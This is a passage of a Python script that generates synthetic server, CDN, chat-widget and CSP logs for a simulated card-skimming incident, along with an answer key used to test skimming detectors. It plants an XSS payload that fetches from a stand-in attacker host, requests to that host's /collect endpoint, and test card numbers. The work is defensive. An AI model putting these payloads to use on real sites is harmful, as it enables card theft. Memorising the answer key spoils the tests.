        ("/scripts/app.js?x=" + q("<img src=x onerror=fetch('//" + DROP + "')>"), "-", ["injected-script_svg_img_tag", "injected-script_event_handler_attribute"], "<img onerror=> in query"),
    ]
    for uri, ref, rules, what in plants:
        log.add(rt(), (rand_ip(rng), "GET", uri, 200, rng.randrange(40, 9000), ref, rng.choice(UAS)), plant("indicator", rules, what))
    t = rt()
    for uri, what in [d for d in web_decoys("cf", t) if d[1] in ("JWT in query", "__utm.gif pixel with long query", "epoch-ms cache buster", "SHA-256 cache-busting digest on image")]:
        log.add(t, (rand_ip(rng), "GET", uri, 200, rng.randrange(40, 9000), "https://" + SITE + "/", rng.choice(UAS)), plant("decoy", [], what))
        t += dt.timedelta(seconds=rng.randrange(1, 300))
    lines = ["#Version: 1.0", "#Fields: " + " ".join(CF_FIELDS)]
    for t, _, (ip, m, uri, st, sz, ref, ua), pl in log.sorted():
        stem, _, query = uri.partition("?")
        rid = base64.urlsafe_b64encode(bytes(rng.randrange(256) for _ in range(42))).decode()
        res = "Hit" if stem.startswith(("/static", "/img", "/fonts", "/scripts", "/favicon")) else "Miss"
        v = [t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), rng.choice(["IAD79-C1", "JFK6-C2", "LHR62-C3", "CDG3-C1"]), str(asset_size("cf", uri, st, sz, t) + 380),
             ip, m, CF_HOST, stem, str(st), ref, urllib.parse.quote(ua, safe="/;:()+,"), query or "-", "-", res, rid, STATIC, "https",
             str(rng.randrange(300, 1400)), "%.3f" % (rng.randrange(1, 900) / 1000), "-", "TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256", res, "HTTP/1.1"]
        lines.append("\t".join(v))
        if pl is not None:
            pl.update(file=rel, line=len(lines), time=t)
    return lines


# ---------------------------------------------------------------- chat export
CHAT_SHA = "3b1f0c5e7d9a2b4c6e8f0a1b3c5d7e9f1a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d"
CHAT_SHA_NEW = "d41d8cd98f00b204e9800998ecf8427e" * 2
def chat_ts(t, style):
    if style == 0:
        return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)
    if style == 1:
        return t.strftime("%Y-%m-%dT%H:%M:%S+0000")
    return int(t.timestamp() * 1000)


def gen_chat(seed):
    rel = "chat/export.jsonl"
    rng = random.Random(seed)
    log = Log(rel)
    vendor_src = "https://" + CHAT_CDN + "/widget/v3/chat.js"
    sha, sha_new = CHAT_SHA, CHAT_SHA_NEW
    texts = ["Hi, can I change my seat?", "Is lunch included on the flight to Paris?", "How much is an extra bag?",
             "My booking reference is SKQ7TZ", "Thanks, that helped!", "Can I upgrade to business?", "Do you fly to Lisbon in winter?"]
    agent = ["Hello! How can I help today?", "Let me check that for you.", "Yes, one meal is included.", "Anything else I can help with?"]

    visitors = {}

    def base(t, event, sid, page):
        # One visitor (address, browser) per chat session.
        ip, ua = visitors.setdefault(sid, (rand_ip(rng), rng.choice(UAS)))
        return {"ts": chat_ts(t, rng.randrange(3)), "service": "chat", "event": event, "session_id": sid,
                "visitor_ip": ip, "page_url": "https://" + SITE + page, "user_agent": ua}
    for _ in range(160):
        t = rand_time(rng)
        sid = "s-%08x" % rng.getrandbits(32)
        page = rng.choice(["/", "/booking/payment", "/booking/search", "/manage-booking", "/help/baggage"])
        o = base(t, "widget.load", sid, page)
        # Inside the window the vendor serves a new build of the widget.
        o["widget"] = {"src": vendor_src, "version": "3.4.2", "sha256": sha_new} if in_window(t) else {"src": vendor_src, "version": "3.4.1", "sha256": sha}
        log.add(t, o)
        for k in range(rng.randrange(0, 4)):
            t2 = t + dt.timedelta(seconds=20 + 40 * k, milliseconds=rng.randrange(1000))
            o = base(t2, "message", sid, page)
            if k % 2:
                o.update({"from": "agent", "agent_id": "ag-%d" % rng.randrange(1, 9), "text": rng.choice(agent)})
            else:
                o.update({"from": "visitor", "text": rng.choice(texts)})
            log.add(t2, o)
        if rng.random() < 0.5:
            t3 = t + dt.timedelta(minutes=rng.randrange(3, 20))
            o = base(t3, "session.end", sid, page)
            o["duration_s"] = rng.randrange(60, 1200)
            log.add(t3, o)

    def add_plant(t, event, fields, rules, what, kind="indicator"):
        o = base(t, event, "s-%08x" % rng.getrandbits(32), "/booking/payment")
        o.update(fields)
        log.add(t, o, plant(kind, rules, what))
    bad_widget = {"widget": {"src": "https://" + DROP + "/widget/v3/chat.js", "version": "3.4.1", "sha256": "9e107d9d372bb6826bd81d3542a419d6" * 2}}
    add_plant(window_time(rng), "widget.load", bad_widget, ["card-skimming_chat_widget_unexpected_host"], "widget served from look-alike host")
    add_plant(window_time(rng), "widget.load", bad_widget, ["card-skimming_chat_widget_unexpected_host"], "widget served from look-alike host (2nd session)")
    add_plant(after_time(rng), "widget.load", bad_widget, ["card-skimming_chat_widget_unexpected_host"], "twin: look-alike widget after the window")
    add_plant(WIN_START + dt.timedelta(hours=1, minutes=12), "config.update",
              {"actor": "api-key-7f3a", "custom_code": SKIMMER_JS},
              ["injected-script_chat_script_loader", "injected-script_chat_obfuscated_code"], "obfuscated skimmer pushed as custom_code")
    add_plant(before_time(rng), "config.update", {"actor": "api-key-7f3a", "config": {"custom_js": SKIMMER_JS}},
              ["injected-script_chat_script_loader", "injected-script_chat_obfuscated_code"], "twin: earlier test push as config.custom_js")
    add_plant(window_time(rng), "message", {"from": "visitor", "text": "the payment page fails, my card is " + group4(GEN_VISA) + " exp 11/19"},
              ["card-exposure_pan_in_chat"], "generated Visa typed in chat, grouped (" + mask(GEN_VISA) + ")")
    add_plant(window_time(rng), "message", {"from": "visitor", "text": "amex " + TEST_AMEX + " keeps getting declined"},
              ["card-exposure_pan_in_chat"], "test Amex typed in chat (" + mask(TEST_AMEX) + ")")
    add_plant(before_time(rng), "message", {"from": "visitor", "text": "can I pay with " + GEN_DISC + "?"},
              ["card-exposure_pan_in_chat"], "twin: generated Discover in chat before the window (" + mask(GEN_DISC) + ")")
    # Decoys inside the window.
    add_plant(window_time(rng), "message", {"from": "visitor", "text": "my order number is " + ORDER_BAD2}, [], "Luhn-failing order number in chat", "decoy")
    add_plant(window_time(rng), "message", {"from": "visitor", "text": "loyalty id " + NOBRAND}, [], "Luhn-valid number without issuer prefix in chat", "decoy")
    add_plant(window_time(rng), "config.update", {"actor": "admin@skyways-air.example", "custom_code": "window.chatTheme={color:'#003366',offset:'0x10'};"},
              [], "benign custom_code theme update", "decoy")
    add_plant(window_time(rng), "message", {"from": "visitor", "text": "the script on your payment page does not load"}, [], "visitor mentions a script", "decoy")
    lines = []
    new_build = None
    for t, _, o, pl in log.sorted():
        lines.append(json.dumps(o, separators=(",", ":")))
        if pl is None and new_build is None and o.get("widget", {}).get("version") == "3.4.2":
            new_build = plant("indicator", ["skimhunt.drift.version"], "first widget.load of the new widget build 3.4.2 inside the window")
            pl = new_build
        if pl is not None:
            pl.update(file=rel, line=len(lines), time=t)
    return lines


# ---------------------------------------------------------------- CSP reports
POLICY = ("default-src 'self'; script-src 'self' https://" + CHAT_CDN + " https://www.google-analytics.com; connect-src 'self' https://"
          + CHAT_CDN + "; img-src 'self' data: https://www.google-analytics.com; form-action 'self'; report-uri /csp-report")


def csp_line(rng, t, doc, blocked, directive, sample=None, shape=None, source=None):
    shape = rng.randrange(2) if shape is None else shape
    if shape == 0:
        body = {"document-uri": doc, "referrer": "https://" + SITE + "/", "violated-directive": directive,
                "effective-directive": directive, "original-policy": POLICY, "disposition": "enforce",
                "blocked-uri": blocked, "status-code": 200}
        if source:
            body["source-file"] = source
        if sample is not None:
            body["script-sample"] = sample
        o = {"received_at": utc_iso(t), "csp-report": body}
    else:
        body = {"documentURL": doc, "referrer": "https://" + SITE + "/", "effectiveDirective": directive, "originalPolicy": POLICY,
                "disposition": "enforce", "blockedURL": blocked, "statusCode": 200}
        if source:
            body["sourceFile"] = source
        if sample is not None:
            body["sample"] = sample
        o = {"received_at": utc_iso(t), "type": "csp-violation", "age": rng.randrange(5, 4000), "url": doc,
             "user_agent": rng.choice(UAS), "body": body}
    return json.dumps(o, separators=(",", ":"))


def gen_csp(seed):
    rel = "csp/reports.jsonl"
    rng = random.Random(seed)
    log = Log(rel)
    pages = ["/", "/flights", "/destinations/paris", "/blog/lounge-guide", "/booking/search", "/booking/payment", "/manage-booking"]
    noise = [("chrome-extension://gighmmpiobklfepjocnamgkkbiglidom/inject.js", "script-src"),
             ("moz-extension://2c1d07e4-7a1b-4f0e-9d5c-1f2e3d4c5b6a/content.js", "script-src"),
             ("inline", "script-src"), ("eval", "script-src"), ("data", "img-src"), ("blob", "worker-src"),
             ("https://fonts.gstatic.com/s/roboto/v18/roboto.woff2", "font-src"), ("about", "frame-src"),
             ("safari-extension://com.adblock.extension-0000/abc/inject.js", "script-src")]
    for _ in range(560):
        t = rand_time(rng)
        blocked, d = rng.choice(noise)
        page = rng.choice(pages)
        log.add(t, (page, blocked, d, None))

    def add(t, page, blocked, d, rules, what, sample=None, kind="indicator", shape=None):
        log.add(t, (page, blocked, d, sample, shape), plant(kind, rules, what))
    pay = "/booking/payment"
    add(window_time(rng), pay, "https://" + DROP + "/widget/v3/chat.js", "script-src", ["injected-script_csp_payment_page_thirdparty_script"], "script-src to look-alike host on payment page", shape=0)
    add(window_time(rng), pay, "https://" + DROP + "/widget/v3/chat.js", "script-src-elem", ["injected-script_csp_payment_page_thirdparty_script"], "script-src-elem (Reporting API) to look-alike host", shape=1)
    add(after_time(rng), pay, "https://" + DROP + "/widget/v3/chat.js", "script-src", ["injected-script_csp_payment_page_thirdparty_script"], "twin: script-src to look-alike host after the window", shape=0)
    add(window_time(rng), pay, "https://" + DROP + "/collect", "connect-src", ["card-skimming_csp_payment_page_exfil"], "connect-src to look-alike host on payment page", shape=1)
    add(before_time(rng), pay, "https://" + DROP + "/collect", "connect-src", ["card-skimming_csp_payment_page_exfil"], "twin: connect-src before the window", shape=0)
    add(window_time(rng), pay, "inline", "script-src", ["injected-script_csp_script_sample_loader"], "inline loader blocked, script-sample shows createElement",
        sample="var s=document.createElement('script');s.", shape=0)
    add(window_time(rng), "/destinations/rome", "https://mage-cdn.link/load.js", "script-src", ["card-skimming_exfil_domain_json", "skimhunt.ioc"], "known Magecart domain in a non-payment CSP report (also an IOC list URL entry)", shape=1)
    add(window_time(rng), pay, "https://" + DROP + "/p.gif?c=" + GEN_MC2, "img-src", ["card-exposure_pan_in_json"], "generated Mastercard (2-series) in blocked image URL (" + mask(GEN_MC2) + ")", shape=0)
    add(after_time(rng), pay, "https://" + DROP + "/p.gif?c=" + GEN_MC2, "img-src", ["card-exposure_pan_in_json"], "twin: card in blocked image URL after the window", shape=1)
    # Decoys inside the window.
    add(window_time(rng), pay, "chrome-extension://gighmmpiobklfepjocnamgkkbiglidom/inject.js", "script-src", [], "extension script on payment page", kind="decoy", shape=0)
    add(window_time(rng), pay, "inline", "script-src", [], "inline on payment page, benign sample", sample="window.dataLayer=window.dataLayer||[];", kind="decoy", shape=1)
    add(window_time(rng), pay, "eval", "script-src", [], "eval keyword on payment page (Firefox sample)", sample="call to eval() or related function blocked by CSP", kind="decoy", shape=0)
    add(window_time(rng), "/destinations/paris", "https://adserver.example/ad.js", "script-src", [], "third-party script on non-payment page", kind="decoy", shape=0)
    add(window_time(rng), pay, "https://" + DROP + "/logo.png", "img-src", [], "look-alike host but img-src", kind="decoy", shape=1)
    # Detector plants: an IOC list domain and two look-alike hosts, on pages and
    # directives that no rule flags.
    add(window_time(rng), "/flights", "https://skim-metrics.example/i.gif?d=1", "img-src", ["skimhunt.ioc"], "IOC list domain in a blocked image URL", shape=0)
    add(window_time(rng), "/destinations/paris", "https://www.google-anaiytics.com/collect?v=1&t=pageview", "img-src", ["skimhunt.lookalike"], "look-alike of google-analytics (l→i)", shape=1)
    add(window_time(rng), "/blog/lounge-guide", "https://code.jquery-cdnapi.com/jquery-3.2.1.min.js", "script-src", ["card-skimming_exfil_domain_json", "skimhunt.lookalike"], "look-alike of jquery (hyphenated extension), also a known Magecart domain", shape=0)
    lines = []
    for t, _, rec, pl in log.sorted():
        if len(rec) == 4:
            page, blocked, d, sample = rec
            shape = None
        else:
            page, blocked, d, sample, shape = rec
        src = "https://" + SITE + "/scripts/app.js" if blocked == "eval" else None
        lines.append(csp_line(rng, t, "https://" + SITE + page, blocked, d, sample, shape, src))
        if pl is not None:
            pl.update(file=rel, line=len(lines), time=t)
    return lines


# ---------------------------------------------------------------- write
def write_text(rel, lines):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = ("\n".join(lines) + "\n").encode("utf-8")
    if rel.endswith(".gz"):
        buf = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
            gz.write(data)
        data = buf.getvalue()
    with open(path, "wb") as fh:
        fh.write(data)


DETECTORS = {
    "skimhunt.drift": "Script served with a size outside its baseline (drift)",
    "skimhunt.drift.version": "Script version or hash first seen inside the window",
    "skimhunt.ioc": "IOC list match",
    "skimhunt.lookalike": "Look-alike host",
}


def rule_info(rules, r):
    if r in DETECTORS:
        return {"file": None, "id": r, "title": DETECTORS[r]}
    return {"file": "rules/%s.yml" % r, "id": rules[r][1], "title": rules[r][0]}


def write_expected(rules):
    rows = sorted(PLANTS, key=lambda p: (p["file"], p["line"]))
    for p in rows:
        for r in p["rules"]:
            if r not in rules and r not in DETECTORS:
                raise SystemExit("unknown rule " + r)
    md = ["# Bundled incident: answer key", "",
          "Generated by `testdata/make_incident.py`; do not edit by hand.", "",
          "Compromise window: `2017-09-26T00:00:00Z` .. `2017-10-12T23:59:59Z` (inclusive). "
          "Site `" + SITE + "`, chat vendor CDN `" + CHAT_CDN + "`, attacker look-alike host `" + DROP + "`.", "",
          "- Line numbers are 1-based physical lines, header lines included; for the `.gz` file, lines of the decompressed text.",
          "- Scanned with the window, exactly the `in` indicator rows give findings, from exactly the listed rules. "
          "`out` rows are the same indicators outside the window: a windowed scan gives no finding; an unwindowed scan gives the listed rules.",
          "- Decoy rows, and every line not listed, give no finding from the built-in pack at any level.",
          "- Card numbers are masked here (first 6, last 4); the logs hold them in full (public test numbers or generated Luhn-valid numbers).",
          "- `incident.expected.json` holds the same rows for tests (kept beside, not inside, the incident so a scan of it does not read the answer key).", "",
          "| file | line | time (UTC) | window | kind | expected finding(s) | what |",
          "|---|---|---|---|---|---|---|"]
    js = []
    for p in rows:
        inside = in_window(p["time"])
        fired = "<br>".join("%s (`%s`)" % (DETECTORS[r], r) if r in DETECTORS else "%s (`%s`, `%s`)" % (rules[r][0], r, rules[r][1])
                            for r in p["rules"]) or "no finding"
        if p["kind"] == "indicator" and not inside:
            fired = "none in window; unwindowed: " + fired
        what = p["what"].replace("|", "\\|")
        md.append("| `%s` | %d | %s | %s | %s | %s | %s |" % (p["file"], p["line"], utc_iso(p["time"]), "in" if inside else "out", p["kind"], fired, what))
        js.append({"file": p["file"], "line": p["line"], "time": utc_iso(p["time"]), "in_window": inside, "kind": p["kind"],
                   "rules": [rule_info(rules, r) for r in p["rules"]], "what": p["what"]})
    n_in = sum(1 for p in rows if p["kind"] == "indicator" and in_window(p["time"]))
    n_out = sum(1 for p in rows if p["kind"] == "indicator" and not in_window(p["time"]))
    n_dec = sum(1 for p in rows if p["kind"] == "decoy")
    md += ["", "Totals: %d indicator lines inside the window, %d outside, %d decoys." % (n_in, n_out, n_dec), ""]
    with open(os.path.join(HERE, "incident.expected.md"), "w", encoding="utf-8") as fh:
        fh.write("\n".join(md))
    with open(os.path.join(HERE, "incident.expected.json"), "w", encoding="utf-8") as fh:
        detect = {"ioc_list": "testdata/iocs.txt",
                  "drift": {"asset": WIDGET, "file": "nginx/access.log", "baseline": [WIDGET_SIZE], "size": WIDGET_TAMPERED,
                            "first_seen": utc_iso(WIN_START + dt.timedelta(minutes=7)),
                            "reverted_at": utc_iso(WIN_END + dt.timedelta(minutes=40))},
                  "two_sizes": "/scripts/vendor.js",
                  "version": {"script": CHAT_CDN + "/widget/v3/chat.js", "baseline": "sha256=%s version=3.4.1" % CHAT_SHA,
                              "new": "sha256=%s version=3.4.2" % CHAT_SHA_NEW}}
        json.dump({"window": {"start": utc_iso(WIN_START), "end": utc_iso(WIN_END)}, "detectors": detect, "plants": js}, fh, indent=1)
        fh.write("\n")


def main():
    rules = read_rules()
    files = {
        "nginx/access.log": gen_combined("nginx", "nginx/access.log", 1500, UTC, None, 1),
        "apache/ssl_access.log": gen_combined("apache", "apache/ssl_access.log", 900, EDT, SITE + ":443", 2),
        "iis/u_ex170927.log": gen_iis(3),
        "cloudfront/E2SKYWAYS.2017-10-01.gz": gen_cloudfront(4),
        "chat/export.jsonl": gen_chat(5),
        "csp/reports.jsonl": gen_csp(6),
    }
    for rel, lines in files.items():
        write_text(rel, lines)
    write_expected(rules)


if __name__ == "__main__":
    main()
